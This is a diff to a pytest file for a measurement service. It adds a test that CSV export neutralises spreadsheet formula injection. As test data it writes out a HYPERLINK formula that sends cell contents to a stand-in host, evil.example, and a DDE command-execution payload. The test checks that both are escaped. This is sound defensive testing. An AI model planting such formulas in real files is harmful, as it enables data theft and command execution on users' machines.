@@ -15,7 +15,8 @@ import pytest
 from device.formats.mcap import export_mcap, load_measurements
 from device.formats.recording import RecordingWriter
 from service.frames import FrameRing
-from history.store import CSV_COLUMNS, Store, supported_decimals
+from history.export import CSV_COLUMNS, supported_decimals
+from history.store import Store
 from factories import SMALL_B, SMALL_F, SMALL_H, SMALL_W, PlaneSource, hilly_frame, wall_frame
 from service_client import latest, make_client, measure
 
@@ -126,6 +127,24 @@ def test_name_note_csv_and_json_export(tmp_path):
         assert loaded[0]["samples_px"] == a["samples_px"] and loaded[0]["note"] == "only the note"
 
 
+def test_csv_export_neutralises_formula_cells(tmp_path):
+    """A name or note typed as a spreadsheet formula is exported as text; negative numbers stay numbers."""
+    formulas = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "note": "+cmd|' /C calc'!A0"}
+    with make_client(tmp_path) as c:
+        fid = latest(c)["id"]
+        m = measure(c, fid, (20, 30), (300, 30), method="basic").json()
+        assert m["p1_m"][0] < 0  # left of the principal point: a negative X to export
+        c.patch(f"/api/measurements/{m['id']}", json=formulas)
+        for other in ("-1+1", "@SUM(A1)", "\tx", "\rx"):
+            n = measure(c, fid, (20, 30), (300, 30), method="basic").json()
+            c.patch(f"/api/measurements/{n['id']}", json={"name": other})
+        rows = list(csv.DictReader(io.StringIO(c.get("/api/measurements.csv").text, newline="")))
+    assert (rows[0]["name"], rows[0]["note"]) == ("'" + formulas["name"], "'" + formulas["note"])
+    assert [r["name"] for r in rows[1:]] == ["'-1+1", "'@SUM(A1)", "'\tx", "'\rx"]
+    assert rows[0]["p1_X"].startswith("-") and float(rows[0]["p1_X"]) == pytest.approx(m["p1_m"][0], abs=1e-3)
+    assert float(rows[0]["distance"]) == pytest.approx(m["distance_m"], abs=1e-3)
+
+
 def test_supported_decimals():
     # two significant digits of the uncertainty (GUM): 0.00096 m, 0.96 mm, 1.2 cm
     assert supported_decimals(0.00096, 1.0) == 5
@@ -157,7 +176,8 @@ def test_result_fields_without_a_column_are_kept(tmp_path):
     row = next(csv.DictReader(io.StringIO(again.csv())))
     assert (row["quality"], row["interval_low"], row["interval_high"]) == ("check", "0.8320", "0.8380")
     assert again.annotate(rec["id"], name="door")["quality"] == "check"  # naming keeps the verdict
-    assert again.delete(rec["id"]) and again.get(rec["id"]) is None
+    again.delete(rec["id"])
+    assert again.get(rec["id"]) is None
     again.close()
 
 
